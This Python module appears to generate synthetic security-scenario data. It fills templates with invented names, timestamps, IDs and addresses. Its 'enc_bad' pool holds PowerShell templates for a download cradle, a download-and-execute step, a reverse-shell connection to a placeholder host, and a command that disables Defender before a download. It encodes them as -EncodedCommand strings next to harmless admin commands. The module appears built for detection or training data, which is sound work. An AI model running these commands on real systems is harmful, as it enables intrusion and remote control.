"""Invented names for generated scenarios: a small grammar of pools, the same draw for the same slot in one scenario."""

import base64
import datetime as dt
import random
import re
import uuid
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

import yaml

_SLOT = re.compile(r"\{([A-Za-z]+(?:_[a-z]+)*)([0-9*]?)\}")
_POOLS = ("pools", "pools_contents")
_ALNUM = "abcdefghijkmnpqrstuvwxyz23456789"
_TIED = frozenset(
    {
        "first",
        "last",
        "user",
        "org",
        "dom",
        "app",
        "App",
        "dept",
        "netbios",
        "zh_dept",
        "country",
        "ns",
        "bad_host",
        "bad_ip",
        "bad_domain",
        "appdir",
    }
)
"""Slots that keep their draw inside other pools too, so that a mail address agrees with its name; others are independent."""
_STEPS = {"t": (4, 180), "tf": (0, 2), "ts": (200, 2400)}  # seconds between two stamps: usual, fast, slow
_STAMPS: dict[str, Callable[[dt.datetime], str]] = {
    "sys": lambda t: t.strftime("%b %e %H:%M:%S"),
    "iso": lambda t: t.strftime("%Y-%m-%dT%H:%M:%SZ"),
    "ms": lambda t: t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z",
    "web": lambda t: t.strftime("%d/%b/%Y:%H:%M:%S +0000"),
    "win": lambda t: t.strftime("%Y-%m-%d %H:%M:%S"),
    "app": lambda t: t.strftime("%Y-%m-%d %H:%M:%S,") + f"{t.microsecond // 1000:03d}",
    "epoch": lambda t: f"{int(t.timestamp())}.{t.microsecond // 1000:03d}",
}


@cache
def pools() -> dict[str, tuple[str, ...]]:
    """The pools of `_POOLS` by name."""
    here = Path(__file__).parent
    raw = [yaml.safe_load((here / f"{name}.yaml").read_text(encoding="utf-8")) for name in _POOLS]
    return {name: tuple(str(item) for item in items) for one in raw for name, items in one.items()}


class Names:
    """Draws of one scenario: `fill` replaces slots like {user} (kept), {user2} (another one) and {user*} (always new)."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.memo: dict[str, str] = {}
        start = dt.datetime(2024, 1, 8, tzinfo=dt.UTC) + dt.timedelta(days=rng.randrange(700))
        self.now = start + dt.timedelta(hours=rng.choice((7, 8, 9, 10, 11, 13, 14, 15, 16, 17, 20, 23)))
        self.now += dt.timedelta(seconds=rng.randrange(3600), milliseconds=rng.randrange(1000))

    def fill(self, text: str) -> str:
        """`text` with every known slot replaced; unknown ones stay as they are (braces are common in code)."""
        return _SLOT.sub(lambda m: self._slot(m.group(1), m.group(2), m.group(0)), text)

    def fill_all(self, value: Any) -> Any:
        """A copy of a nested template (dict, list, text) with every text filled; numbers given as text stay text."""
        if isinstance(value, str):
            return self.fill(value)
        if isinstance(value, list):
            return [self.fill_all(item) for item in value]
        if isinstance(value, dict):
            return {self.fill(str(key)): self.fill_all(item) for key, item in value.items()}
        return value

    def night(self) -> None:
        """Move the clock to between one and five in the morning."""
        self.now = self.now.replace(hour=self.rng.randrange(1, 5))

    def stamp(self, style: str, step: str = "t") -> str:
        """The clock, moved on a little, in one of the styles sys, iso, ms, web, win, app, epoch."""
        low, high = _STEPS[step]
        self.now += dt.timedelta(seconds=self.rng.randint(low, high), milliseconds=self.rng.randrange(1000))
        return _STAMPS[style](self.now)

    def _slot(self, name: str, suffix: str, raw: str) -> str:
        step, _, style = name.partition("_")
        if step in _STEPS and style in _STAMPS:
            return self.stamp(style, step)
        key = name + suffix
        if suffix != "*" and key in self.memo:
            return self.memo[key]
        value = self._draw(name, suffix)
        if value is None:
            return raw
        if suffix != "*":
            self.memo[key] = value
        return value

    def _draw(self, name: str, suffix: str) -> str | None:
        if name in _MAKERS:
            return _MAKERS[name](self.rng)
        pool = pools().get(name)
        return None if pool is None else self._nested(self.rng.choice(pool), suffix)

    def _nested(self, template: str, suffix: str) -> str:
        def replace(match: re.Match[str]) -> str:
            name = match.group(1)
            return self._slot(name, (match.group(2) or suffix) if name in _TIED else "*", match.group(0))

        return _SLOT.sub(replace, template)


def _letters(alphabet: str, count: int) -> Callable[[random.Random], str]:
    return lambda rng: "".join(rng.choice(alphabet) for _ in range(count))


def _between(low: int, high: int) -> Callable[[random.Random], str]:
    return lambda rng: str(rng.randint(low, high))


def _guid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def _sid(rng: random.Random) -> str:
    parts = "-".join(str(rng.randint(10**8, 4 * 10**9)) for _ in range(3))
    return f"S-1-5-21-{parts}-{rng.randint(1000, 9999)}"


def _noise_base64(rng: random.Random) -> str:
    return base64.b64encode(rng.randbytes(rng.randint(36, 90))).decode()


def _public_address(rng: random.Random) -> str:
    """Any address of the internet: one that stands for others would be learned as the mark of an attacker."""
    first = rng.choice([one for one in range(1, 224) if one not in (10, 100, 127, 169, 172, 192, 198, 203)])
    return ".".join(str(part) for part in (first, rng.randint(0, 255), rng.randint(0, 255), rng.randint(1, 254)))


def _encoded(pool: str) -> Callable[[random.Random], str]:
    """Base64 of UTF-16LE, the spelling of `powershell -EncodedCommand`."""

    def make(rng: random.Random) -> str:
        plain = Names(rng).fill(rng.choice(pools_of_plain()[pool]))
        return base64.b64encode(plain.encode("utf-16-le")).decode()

    return make


def pools_of_plain() -> dict[str, tuple[str, ...]]:
    """Plain texts that get encoded: harmful downloads and harmless administration, of similar length."""
    return {
        "enc_bad": (
            "IEX (New-Object Net.WebClient).DownloadString('{bad_url}')",
            "iwr {bad_url} -OutFile $env:TEMP\\{word}.exe; Start-Process $env:TEMP\\{word}.exe",
            "$c=New-Object Net.Sockets.TCPClient('{bad_ip}',{port});$s=$c.GetStream()",
            "Set-MpPreference -DisableRealtimeMonitoring $true; iwr {bad_url} -o C:\\Users\\Public\\{word}.exe",
        ),
        "enc_ok": (
            "Get-Service | Where-Object { $_.Status -eq 'Stopped' } | Export-Csv C:\\Reports\\{app}.csv",
            "Restart-Service -Name {app} -Force; Write-Output 'done {ticket}'",
            "Get-ChildItem D:\\{app}\\logs -Filter *.log | Remove-Item -Confirm:$false",
            "Install-Module -Name {app} -Repository internal -Scope AllUsers",
        ),
    }


_MAKERS: dict[str, Callable[[random.Random], str]] = {
    "digit": _between(1, 9),
    "num": _between(10, 999),
    "numtwo": _between(10, 99),
    "numthree": _between(100, 999),
    "numfour": _between(1000, 9999),
    "numsix": _between(100000, 999999),
    "oct": _between(1, 254),
    "port": lambda rng: str(
        rng.choice((80, 443, 1337, 4444, 4443, 5555, 8000, 8080, 8443, 9001, rng.randint(2000, 60000)))
    ),
    "highport": _between(32768, 60999),
    "pid": _between(300, 32000),
    "uid": _between(1000, 1999),
    "bytes": _between(180, 64000),
    "big": _between(4 * 10**8, 9 * 10**9),
    "small": _between(2, 6),
    "hexsix": _letters("0123456789abcdef", 6),
    "hexlong": lambda rng: hex(rng.randint(0x10000, 0xFFFFFF)),
    "md": _letters("0123456789abcdef", 32),
    "sha": _letters("0123456789abcdef", 64),
    "upper": _letters("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789", 7),
    "alnumfour": _letters(_ALNUM, 4),
    "alnumeight": _letters(_ALNUM, 8),
    "alnumlong": _letters(_ALNUM, 28),
    "pubip": _public_address,
    "guid": _guid,
    "sid": _sid,
    "noise": _noise_base64,
    "enc_bad": _encoded("enc_bad"),
    "enc_ok": _encoded("enc_ok"),
    "acct": _letters("0123456789", 12),
    "keyid": lambda rng: "AKIAEXAMPLE" + _letters("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 9)(rng),
}
